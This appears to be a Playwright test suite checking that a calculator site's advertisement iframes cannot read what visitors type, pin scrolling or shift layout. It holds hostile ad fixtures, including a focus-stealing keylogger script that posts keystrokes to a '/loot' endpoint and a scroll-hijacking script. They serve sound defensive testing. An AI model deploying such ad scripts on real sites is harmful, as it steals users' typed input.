import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

import { type Browser, chromium, type Page } from '@playwright/test'

import { CHROMIUM_ARGUMENTS, chromiumPath } from '../../chromium.ts'
import { contentPaths, personalToolPaths } from '../../site-map.ts'
import { startAdSite, type AdSite } from './ad-site.ts'
import { CANARY, CANARY_AMOUNT, fillFields, pressButtons, unfold } from '../filling.ts'
import { hostileAd } from './hostile-ad.ts'
import { startListener } from './listener.ts'
import { expect, unwatchedTest as test } from '../site.ts'

/** One of each kind of form, all with the same frame around them; the policy of every page is held below. */
const FORMS = ['/tools/loan-calculator', '/tools/percentage-calculator', '/tools/age-calculator']
/** Another build of the site takes most of it. */
const PATIENCE_MS = 300_000
const DESKTOP = { width: 1280, height: 800 }
const PHONE = { width: 360, height: 780 }

const FOCUS_AD = `<!doctype html><input id="field"><script>
  setInterval(() => { window.focus(); field.focus() }, 20)
  addEventListener('keydown', ({ key }) => void fetch('/loot', { method: 'POST', mode: 'no-cors', body: '|' + key }), true)
</script>`
const PINNING_AD = `<!doctype html><p>Ad</p><script>
  setInterval(() => document.body.scrollIntoView({ block: 'center' }), 60)
</script>`

let site: AdSite
let browser: Browser
/** Every address that a page has asked for. */
const askedBy = new WeakMap<Page, string[]>()

test.describe.configure({ mode: 'serial', timeout: PATIENCE_MS })

test.beforeAll(async () => {
  test.setTimeout(PATIENCE_MS)
  site = await startAdSite()
  browser = await chromium.launch({
    executablePath: await chromiumPath(),
    args: CHROMIUM_ARGUMENTS,
    // Playwright lets pages open windows by themselves, which no visitor's browser does.
    ignoreDefaultArgs: ['--disable-popup-blocking'],
  })
})

test.afterAll(async () => {
  await browser.close()
  await site.close()
})

test('the policy of each page lets in the frames that its class may have', () => {
  const files = globSync('**/*.html', { cwd: site.folder })
  expect(files.length).toBeGreaterThan(20)
  for (const file of files) {
    const html = readFileSync(join(site.folder, file), 'utf8')
    const path = `/${file}`.replace(/\/?index\.html$/, '') || '/'
    const isPublic = contentPaths.includes(path) && !/contact|policy|terms|^\/tools$/.test(path)
    const mayHaveFrames = isPublic || personalToolPaths.includes(path)
    const sources = /frame-src ([^;"]+)/.exec(html)?.[1]
    expect(sources, path).toBe(mayHaveFrames ? site.adOrigin : undefined)
    if (!mayHaveFrames) expect(html, path).not.toMatch(/<iframe|data-ad-frame/)
    expect(html, path).not.toMatch(/data-ad="mobile-sticky" data-ad-fill="frame"/)
  }
})

test('a hostile advertisement gets nothing of what is typed into a calculator', async () => {
  const listener = await startListener()
  site.show((size) => hostileAd(size, listener.target))
  await Promise.all(FORMS.map(holdOut))
  const told = [...site.heard, ...listener.heard].map((line) => decodeURIComponent(line))
  listener.close()
  expect(listener.heard.length, 'escapes from the frame’s own page').toBeGreaterThan(0)
  expect(told.filter((line) => line.includes(CANARY) || line.includes(CANARY_AMOUNT))).toEqual([])
  expect(told.filter((line) => /tools\/|html=|kept=|fields=|address=/.test(line))).toEqual([])
  const keys = new Set(told.map((line) => /\|(\S*)/.exec(line)?.[1] ?? ''))
  expect([...keys], 'keys that a frame heard').toEqual([''])
})

test('such an advertisement would hear what is typed, were it not taken away', async () => {
  const page = await browser.newPage()
  await page.setContent(
    `<input><iframe sandbox="allow-scripts" src="${site.adOrigin}/slot?size=banner">`,
  )
  await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('IFRAME')
  // Typed again until it is heard: on a busy machine the frame may be late to take the focus.
  await expect(async () => {
    await page.locator('input').click()
    await page.keyboard.type('zzzz', { delay: 100 })
    await expect
      .poll(() => site.heard.some((line) => /\|z/.test(line)), { timeout: 2_000 })
      .toBe(true)
  }).toPass()
  await page.close()
})

test('frames that take the focus from each other hear next to nothing', async () => {
  site.show(() => FOCUS_AD)
  const page = await openPage(DESKTOP)
  await page.goto(site.origin + '/tools/loan-calculator')
  await expect(page.locator('astro-island[ssr]')).toHaveCount(0)
  const frames = page.locator('[data-ad] iframe')
  for (const size of ['inline', 'banner'] as const) await seeFrame(page, size)
  await page.locator('h1').click()
  await expect(frames).toHaveCount(0)
  site.heard.length = 0
  await page.keyboard.type('x'.repeat(25), { delay: 60 })
  await page.keyboard.press('Control+k')
  await page.keyboard.type('canary query', { delay: 60 })
  await page.waitForTimeout(500)
  expect(site.heard.filter((line) => /\|./.test(line))).toEqual([])
  await page.close()
})

test('a frame that scrolls the page to itself is dismissed', async () => {
  site.show((size) => (size === 'inline' ? PINNING_AD : '<!doctype html><title>Empty</title>'))
  const page = await openPage(DESKTOP)
  await page.goto(site.origin + '/tools/loan-calculator')
  await expect(page.locator('astro-island[ssr]')).toHaveCount(0)
  await page.mouse.move(40, 300)
  const frame = page.locator('[data-ad=inline]:visible iframe')
  await seeFrame(page, 'inline')
  await expect(async () => {
    await page.mouse.wheel(0, 100)
    // It would be back by then.
    await page.waitForTimeout(2000)
    expect(await frame.count()).toBe(0)
  }).toPass()
  const before = await page.evaluate(() => scrollY)
  await page.mouse.wheel(0, 200)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(before + 200)
  await page.close()
})

test('such a frame would pin the page', async () => {
  site.show(() => PINNING_AD)
  const page = await browser.newPage({ viewport: DESKTOP })
  await page.setContent(
    `<div style="height: 1500px"></div><iframe sandbox="allow-scripts" src="${site.adOrigin}/slot?size=inline"></iframe><div style="height: 3000px"></div>`,
  )
  await expect.poll(() => page.evaluate(() => scrollY)).toBeGreaterThan(500)
  const pinned = await page.evaluate(() => scrollY)
  await page.mouse.wheel(0, 1000)
  await page.waitForTimeout(500)
  expect(await page.evaluate(() => scrollY)).toBe(pinned)
  await page.close()
})

/** Opens the page with the advertisements in sight, then fills it in as a visitor would, and lets them come back. */
async function holdOut(path: string): Promise<void> {
  const page = await openPage(DESKTOP)
  const context = page.context()
  // Something to go back to.
  await page.goto(`${site.origin}/robots.txt`)
  await page.goto(site.origin + path)
  await expect(page.locator('astro-island[ssr]'), path).toHaveCount(0)
  const calm = page.locator('[data-ad=inline]:visible iframe')
  await seeFrame(page, 'inline')
  await seeFrame(page, 'banner')
  await expect(page.locator('[data-ad=banner] iframe'), 'one that takes the focus').toHaveCount(0)
  await unfold(page)
  await page.locator('main :is(input:not([type=radio]), textarea):visible').first().click()
  await expect(calm, path).toHaveCount(0)
  await page.keyboard.type(CANARY_AMOUNT)
  await fillFields(page, CANARY)
  await pressButtons(page)
  await page.locator('h1').click()
  await calm.waitFor({ state: 'attached' })
  await seeFrame(page, 'inline', 2)
  await page.waitForTimeout(400)
  expect(context.pages(), `windows opened from ${path}`).toHaveLength(1)
  expect(new URL(page.url()).pathname).toBe(path)
  expect(new URL(page.url()).hash).not.toContain('taken')
  await expect(page.locator('h1')).toBeVisible()
  await context.close()
}

/** Brings the frame of a box near the screen and waits until it has been asked for, `times` times since the page was opened. */
async function seeFrame(page: Page, size: 'banner' | 'inline', times = 1): Promise<void> {
  await page.locator(`[data-ad=${size}]:visible`).scrollIntoViewIfNeeded()
  await expect
    .poll(() => askedBy.get(page)?.filter((address) => address.endsWith(`size=${size}`)).length)
    .toBeGreaterThanOrEqual(times)
}

for (const [what, ad] of [
  ['filled', '<!doctype html><style>body{margin:0;height:100vh;background:gold}</style>Ad'],
  ['unfilled', '<!doctype html><title>Empty</title>'],
] as const) {
  test(`nothing moves where frames come and go, ${what}`, async () => {
    site.show(() => ad)
    for (const viewport of [DESKTOP, PHONE]) await standStill(viewport)
  })
}

/** Brings every box of some pages into sight, in which nothing may move. */
async function standStill(viewport: typeof DESKTOP): Promise<void> {
  const page = await openPage(viewport)
  await page.addInitScript(noteShifts)
  for (const path of ['/', '/faq', '/tools/loan-calculator', '/tools/json-formatter']) {
    await page.goto(site.origin + path)
    await expect(page.locator('astro-island[ssr]'), path).toHaveCount(0)
    // What explains the figures is loaded after them.
    await page.waitForLoadState('networkidle')
    for (const box of await page.locator('[data-ad]:visible').all())
      await box.scrollIntoViewIfNeeded()
    await page.waitForTimeout(200)
    await expect(page.locator('html'), path).not.toHaveAttribute('data-shift')
    const needed = await page.evaluate(() => document.documentElement.scrollWidth)
    expect(needed, `${path} at ${viewport.width} px`).toBeLessThanOrEqual(viewport.width)
  }
  await page.close()
}

test('a frame receives the site and not the page, and no cookie outlives it', async () => {
  site.heard.length = 0
  const page = await openPage(DESKTOP)
  for (const path of ['/tools/sip-calculator', '/tools/fd-calculator']) {
    await page.goto(site.origin + path)
    await seeFrame(page, 'inline')
    await seeFrame(page, 'banner')
  }
  const asked = site.heard.filter((line) => line.startsWith('GET /slot'))
  expect(new Set(asked)).toEqual(
    new Set(asked.map((line) => `${line.split(' ', 2).join(' ')}  ${site.origin}/ `)),
  )
  expect(asked.length).toBeGreaterThan(1)
  await page.close()
})

test('bookings appear on secret pages, marked as sponsored', async () => {
  const page = await openPage(PHONE)
  await page.goto(`${site.origin}/tools/password-generator`)
  const box = page.locator('[data-ad=inline]:visible')
  await expect(box).toContainText('Advertisement: Keyboard Works')
  const link = box.getByRole('link', { name: 'Keyboards that last' })
  await expect(link).toHaveAttribute('rel', /sponsored/)
  await expect(link).toHaveAttribute('href', 'https://keys.example/shop?from=ganak')
  await page.close()
})

test('the box of phones is closed by a target of 44 pixels, for the visit', async () => {
  const page = await openPage(PHONE)
  await page.goto(`${site.origin}/tools/loan-calculator`)
  const box = page.locator('[data-ad=mobile-sticky]')
  const picture = box.getByRole('img', { name: 'Keyboards that last' })
  const [image, close] = [await picture.boundingBox(), await box.getByRole('button').boundingBox()]
  expect(Math.min(close?.width ?? 0, close?.height ?? 0)).toBeGreaterThanOrEqual(44)
  expect((image?.x ?? 0) + (image?.width ?? Infinity)).toBeLessThanOrEqual(close?.x ?? 0)
  await box.getByRole('button', { name: 'Close advertisement' }).click()
  await expect(box).toBeHidden()
  await page.goto(`${site.origin}/faq`)
  await page.goto(`${site.origin}/`)
  await expect(box).toBeHidden()
  await page.close()
})

test('the texts, the proof and ads.txt say what this build does', async () => {
  const page = await openPage(DESKTOP)
  for (const path of ['/privacy-policy', '/about', '/faq']) {
    await page.goto(site.origin + path)
    const text = await page.locator('main').textContent()
    expect(text).toContain(new URL(site.adOrigin).host)
    for (const claim of ['placeholders', 'no third-party requests', 'no request to any other'])
      expect(text, path).not.toContain(claim)
  }
  await page.goto(`${site.origin}/tools/loan-calculator`)
  await page.getByRole('button', { name: 'Prove it' }).click()
  await expect(page.getByRole('dialog')).toContainText(`frame-src ${site.adOrigin}`)
  await expect(page.getByRole('dialog')).toContainText('cannot read this page')
  const answer = await page.request.get(`${site.origin}/ads.txt`)
  expect(await answer.text()).toBe('ads.example, pub-1, DIRECT\nOWNERDOMAIN=ganak.example\n')
  await page.close()
})

async function openPage(viewport: typeof DESKTOP): Promise<Page> {
  const page = await browser.newPage({ viewport, serviceWorkers: 'block' })
  const asked: string[] = []
  askedBy.set(page, asked)
  page.on('request', (request) => asked.push(request.url()))
  return page
}

/** Names in an attribute of the page what has moved in it. */
function noteShifts(): void {
  new PerformanceObserver((list) => {
    const entries = list.getEntries() as (PerformanceEntry & { sources: { node?: Element }[] })[]
    const moved = entries.flatMap(({ sources }) => sources.map(({ node }) => node?.outerHTML))
    document.documentElement.dataset['shift'] = moved.map((html) => html?.slice(0, 80)).join()
  }).observe({ type: 'layout-shift', buffered: true })
}
